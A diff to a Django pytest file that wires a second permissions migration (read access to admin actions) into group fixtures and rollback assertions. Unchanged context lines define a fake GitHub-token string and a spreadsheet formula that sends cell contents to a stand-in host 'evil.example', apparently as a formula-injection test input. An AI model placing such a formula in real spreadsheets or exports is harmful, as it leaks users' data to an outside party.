@@ -25,6 +25,7 @@ from tests.engine_support import drive
 pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("external_root")]
 
 groups_migration = importlib.import_module("steering_app.migrations.0003_auditors_and_operators_groups")
+admin_actions_migration = importlib.import_module("steering_app.migrations.0004_groups_read_admin_actions")
 SECRET = "ghp_" + "A1b2C3d4E5" * 3 + "F6g7H8"  # a GitHub token's shape: ghp_ and 36 characters
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 
@@ -34,6 +35,7 @@ def groups(db):
     """The groups as steering_app migration 0003 creates them (a transactional test's flush empties auth_group after
     the first test): its own function, run again — which also shows it is safe to run twice."""
     groups_migration.create_groups(global_apps, SimpleNamespace(connection=connection))
+    admin_actions_migration.grant(global_apps, SimpleNamespace(connection=connection))
 
 
 def staff_in(group: str, username: str) -> Client:
@@ -284,11 +286,13 @@ def test_it_creates_the_groups_idempotently_and_takes_back_only_what_it_gave():
     operators = set(Group.objects.get(name="operators").permissions.values_list("codename", flat=True))
     get_user_model().objects.create_user("member").groups.add(Group.objects.get(name="operators"))
 
+    admin_actions_migration.take_back(global_apps, schema_editor)  # (a rollback reverses 0004 first)
     groups_migration.remove_groups(global_apps, schema_editor)
 
     assert {"view_task", "view_steeringcommand"} <= auditors and not {"add_steeringcommand", "kill_task"} & auditors
     assert all(codename.startswith("view_") for codename in auditors)
     assert operators - auditors == {"add_steeringcommand"}
+    assert "view_adminaction" in auditors  # (0004: both roles read the admin actions)
     assert not Group.objects.filter(name="auditors").exists()  # empty: deleted
     assert Group.objects.get(name="operators").user_set.count() == 1  # has a member: kept, without the grants
     assert not Group.objects.get(name="operators").permissions.exists()
